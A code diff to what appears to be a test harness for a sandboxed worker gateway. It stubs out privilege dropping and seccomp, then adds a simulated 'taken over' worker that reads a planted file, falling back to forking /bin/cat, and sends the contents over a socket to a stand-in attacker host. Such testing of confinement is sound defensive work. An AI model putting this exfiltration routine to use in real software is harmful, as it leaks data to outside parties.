@@ -143,41 +143,49 @@ def _jail(birth: Any) -> None:
     from gateway import confine
 
     replaced(birth, "_drop_privileges", "worker uid", lambda real, uid, gid: None)
-    replaced(confine, "install", "worker seccomp", lambda real: None)
+    replaced(confine, "install", "worker seccomp", lambda real, pinned: None)
     replaced(confine, "empty_root", "empty root", lambda real: None)
-    run = birth._run
+    install = confine.install
 
-    def taken_over(*arguments: Any) -> int:
+    def installed(pinned: int) -> None:
+        install(pinned)
+        if STATE.provoked(TAKEN_OVER):
+            taken_over()
+
+    def taken_over() -> None:
         """A worker that is somebody else's: it reads what it finds and sends it to its owner."""
         found = b""
         try:
             with open(STATE.place("planted"), "rb") as file:
                 found = file.read()
         except OSError:
-            ours, theirs = os.pipe()
-            if os.fork() == 0:
-                os.dup2(theirs, 1)
-                try:
-                    os.execv("/bin/cat", ["cat", STATE.place("planted")])  # noqa: S606
-                finally:
-                    os._exit(1)
-            os.close(theirs)
-            found = os.read(ours, 4096)
-            os.close(ours)
+            found = _by_a_program()
         try:
             with socket.create_connection((STATE.place("attacker"), 22), timeout=3) as sock:
                 sock.sendall(b"taken over: " + found)
                 sock.recv(100)
         except OSError as error:
             logging.getLogger("provoked").warning("%s", error)
-        result: int = run(*arguments)
-        return result
 
-    def start(*arguments: Any) -> int:
-        chosen: int = (taken_over if STATE.provoked(TAKEN_OVER) else run)(*arguments)
-        return chosen
+    confine.install = installed
 
-    birth._run = start
+
+def _by_a_program() -> bytes:
+    try:
+        ours, theirs = os.pipe()
+        pid = os.fork()
+    except OSError:
+        return b""
+    if pid == 0:
+        os.dup2(theirs, 1)
+        try:
+            os.execv("/bin/cat", ["cat", STATE.place("planted")])  # noqa: S606
+        finally:
+            os._exit(1)
+    os.close(theirs)
+    found = os.read(ours, 4096)
+    os.close(ours)
+    return found
 
 
 def _names() -> None:
